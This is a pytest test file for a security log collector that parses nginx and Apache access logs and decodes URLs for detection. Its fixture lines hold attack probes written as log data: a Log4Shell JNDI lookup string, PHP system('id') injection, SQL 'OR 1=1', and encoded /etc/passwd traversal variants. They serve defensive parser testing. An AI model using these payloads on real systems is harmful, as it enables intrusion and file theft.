# ruff: noqa: E501  (log lines are corpus data; they stay whole)
import json

import pytest

from collectors.parsers import urls
from tests.collectors.parsers.contract import failed, get, run

FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0"


def test_combined_line_gives_every_field() -> None:
    line = (
        '203.0.113.9 - alice [26/Nov/2026:23:59:14 +0700] "GET /shop/item.php?id=7&q=a%20b HTTP/1.1" 200 993 '
        f'"http://shop.example/" "{FIREFOX}"'
    )
    event = run("nginx", line)
    assert event["@timestamp"] == "2026-11-26T16:59:14Z"  # the line's own offset
    assert event["source"] == {"ip": "203.0.113.9"}
    assert event["user"] == {"name": "alice"}
    assert event["http"] == {
        "request": {"method": "GET", "referrer": "http://shop.example/"},
        "version": "1.1",
        "response": {"status_code": 200, "body": {"bytes": 993}},
    }
    url = event["url"]
    assert (url["original"], url["path"], url["query"], url["extension"]) == (
        "/shop/item.php?id=7&q=a%20b",
        "/shop/item.php",
        "id=7&q=a%20b",
        "php",
    )
    assert url["decoded"]["query"] == "id=7&q=a b"
    assert event["user_agent"]["original"] == FIREFOX
    assert (event["user_agent"]["name"], event["user_agent"]["os"]["name"]) == ("Firefox", "Windows")
    assert event["user_agent"]["version"].startswith("132")
    assert event["event"]["category"] == ["web"] and event["event"]["outcome"] == "success"
    assert event["event"]["dataset"] == "nginx.access"
    assert event["soc"]["parser"] == "nginx.combined"


def test_common_format_and_apache_escapes() -> None:
    event = run("apache", r'192.0.2.4 - - [01/Jan/2027:00:00:01 -0500] "GET /a\"b\\c HTTP/1.0" 404 -')
    assert event["@timestamp"] == "2027-01-01T05:00:01Z"
    assert event["url"]["original"] == '/a"b\\c'
    assert event["http"]["response"] == {"status_code": 404}
    assert event["event"]["outcome"] == "failure" and event["event"]["type"] == ["access", "error"]
    assert event["event"]["dataset"] == "apache.access" and event["soc"]["parser"] == "apache.common"
    assert "user_agent" not in event and "user" not in event


def test_vhost_prefix_gives_url_domain() -> None:
    event = run(
        "apache",
        f'portal.gov.example:443 198.51.100.2 - - [26/Nov/2026:10:00:00 +0000] "POST /login HTTP/2.0" 302 0 "-" "{FIREFOX}"',
    )
    assert event["url"]["domain"] == "portal.gov.example"
    assert event["source"]["ip"] == "198.51.100.2"
    assert event["http"]["version"] == "2.0"
    assert event["soc"]["parser"] == "apache.vhost_combined"


def test_domain_from_context_when_the_line_has_none() -> None:
    event = run(
        "nginx",
        '192.0.2.4 - - [26/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        domain="www.agency.example",
    )
    assert event["url"]["domain"] == "www.agency.example"


def test_nginx_hex_escapes_are_undone_in_values_but_kept_in_original() -> None:
    line = (
        r'127.0.0.22 - - [26/Nov/2026:23:59:29 +0000] "GET /x.php?c=\x5C\x22.system(\x27id\x27) HTTP/1.1" 404 153 '
        r'"-" "curl \x22quoted\x22 \xC3\xA9"'
    )
    event = run("nginx", line)
    assert event["url"]["query"] == "c=\\\".system('id')"
    assert event["user_agent"]["original"] == 'curl "quoted" é'
    assert event["event"]["original"] == line


def test_unparsable_request_line_still_gives_what_is_known() -> None:
    event = run("nginx", '127.0.0.22 - - [26/Nov/2026:23:59:29 +0000] "GET /q?id=1 OR 1=1 HTTP/1.1" 400 157 "-" "-"')
    assert not failed(event)
    assert event["http"]["request"]["method"] == "GET"
    assert event["url"]["original"] == "/q?id=1 OR 1=1"
    assert event["http"]["response"]["status_code"] == 400
    junk = run("nginx", r'127.0.0.9 - - [26/Nov/2026:23:59:29 +0000] "\x16\x03\x01\x00\xA5\x01" 400 157 "-" "-"')
    assert not failed(junk)
    assert "url" not in junk and "method" not in junk.get("http", {}).get("request", {})
    assert junk["message"].startswith("\x16\x03")
    assert junk["source"]["ip"] == "127.0.0.9"


def test_json_log_with_json_escapes_and_empty_fields() -> None:
    record = {
        "time_local": "26/Nov/2026:23:59:14 +0000",
        "time_iso8601": "2026-11-26T23:59:14+00:00",
        "remote_addr": "127.0.0.23",
        "remote_user": "",
        "request": 'GET /?q="x"\\y HTTP/1.1',
        "request_method": "GET",
        "request_uri": '/?q="x"\\y',
        "server_protocol": "HTTP/1.1",
        "status": "200",
        "body_bytes_sent": "12",
        "http_referer": "",
        "http_user_agent": "${jndi:ldap://x/a}",
        "host": "shop.acme.test",
    }
    event = run("nginx-json", json.dumps(record))
    assert event["url"]["query"] == 'q="x"\\y'
    assert event["url"]["domain"] == "shop.acme.test"
    assert event["user_agent"]["original"] == "${jndi:ldap://x/a}"
    assert "user" not in event and "referrer" not in event["http"]["request"]
    assert "mime_type" not in event["http"]["request"]  # the format above does not log it
    assert event["soc"]["parser"] == "nginx.json"
    record |= {"request_method": "POST", "content_type": "application/octet-stream"}
    posted = run("nginx-json", json.dumps(record))
    assert posted["http"]["request"] == {"method": "POST", "mime_type": "application/octet-stream"}


def test_json_400_uses_the_raw_request() -> None:
    record = {"time_iso8601": "2026-11-26T23:59:29+07:00", "remote_addr": "127.0.0.22", "request": "GET . HTTP/1.0",
              "request_method": "", "request_uri": "", "server_protocol": "", "status": "400", "body_bytes_sent": "157"}  # fmt: skip
    event = run("nginx-json", json.dumps(record))
    assert event["@timestamp"] == "2026-11-26T16:59:29Z"
    assert (event["http"]["request"]["method"], event["url"]["original"], event["http"]["version"]) == (
        "GET",
        ".",
        "1.0",
    )


@pytest.mark.parametrize(
    "line",
    ["", "not json", "[1, 2]", '{"remote_addr": "1.2.3.4"}', '{"time_iso8601": "yesterday"}', '{"a": '],
)
def test_bad_json_lines_are_failures_with_the_text_kept(line: str) -> None:
    event = run("nginx-json", line or " ")
    assert failed(event)
    assert event["message"] == (line or " ")
    assert event["event"]["dataset"] == "nginx.access"


@pytest.mark.parametrize(
    "line",
    ["", "GET / HTTP/1.1", "1.2.3.4 - - [bad time] \"GET / HTTP/1.1\" 200 1", "1.2.3.4 - - [26/Foo/2026:00:00:00 +0000] \"GET /\" 200 1"],
)  # fmt: skip
def test_lines_that_are_not_access_lines_fail_cleanly(line: str) -> None:
    assert failed(run("nginx", line or " "))


@pytest.mark.parametrize(
    ("encoded", "decoded"),
    [
        ("/a%252e%252e%252fetc%252fpasswd", "/a../etc/passwd"),  # double encoding
        ("/%c0%ae%c0%ae%c0%afetc/passwd", "/../etc/passwd"),  # overlong UTF-8
        ("/%e0%80%afx", "//x"),  # three-byte overlong
        ("/%u002e%u002e/x", "/../x"),  # IIS %u
        ("/caf%C3%A9", "/café"),
        ("/%ff%fe", "/\\xff\\xfe"),  # not UTF-8: visible, not lost
        ("/%25252525252e", "/%25252e"),  # no more than three rounds
        ("/100%", "/100%"),
        ("/%zz", "/%zz"),
    ],
)
def test_url_decoding_for_detection(encoded: str, decoded: str) -> None:
    assert urls.decode(encoded) == decoded


def test_decoded_fields_keep_the_originals() -> None:
    event = run(
        "nginx",
        '127.0.0.23 - - [26/Nov/2026:23:59:29 +0000] "GET /..%2f..%2fetc/passwd?x=%24%7Bjndi%3Aldap%7D+a HTTP/1.1" 404 1 "-" "-"',
    )
    url = event["url"]
    assert url["original"] == "/..%2f..%2fetc/passwd?x=%24%7Bjndi%3Aldap%7D+a"
    assert url["path"] == "/..%2f..%2fetc/passwd"
    assert url["decoded"] == {
        "original": "/../../etc/passwd?x=${jndi:ldap} a",
        "path": "/../../etc/passwd",
        "query": "x=${jndi:ldap} a",
    }


def test_absolute_form_target_gives_the_domain() -> None:
    event = run(
        "nginx",
        '10.0.0.1 - - [26/Nov/2026:23:59:29 +0000] "GET http://proxy.example:8080/p?q=1 HTTP/1.1" 400 1 "-" "-"',
    )
    assert (event["url"]["domain"], event["url"]["path"], event["url"]["query"]) == ("proxy.example", "/p", "q=1")


def test_user_agent_fields_for_a_bot_and_an_absurd_agent() -> None:
    event = run(
        "nginx",
        '1.2.3.4 - - [26/Nov/2026:23:59:29 +0000] "GET / HTTP/1.1" 200 1 "-" "Googlebot/2.1 (+http://www.google.com/bot.html)"',
    )
    assert get(event, "user_agent.name") == "Googlebot"
    huge = "A" * 5000
    event = run("nginx", f'1.2.3.4 - - [26/Nov/2026:23:59:29 +0000] "GET / HTTP/1.1" 200 1 "-" "{huge}"')
    assert event["user_agent"] == {"original": huge}
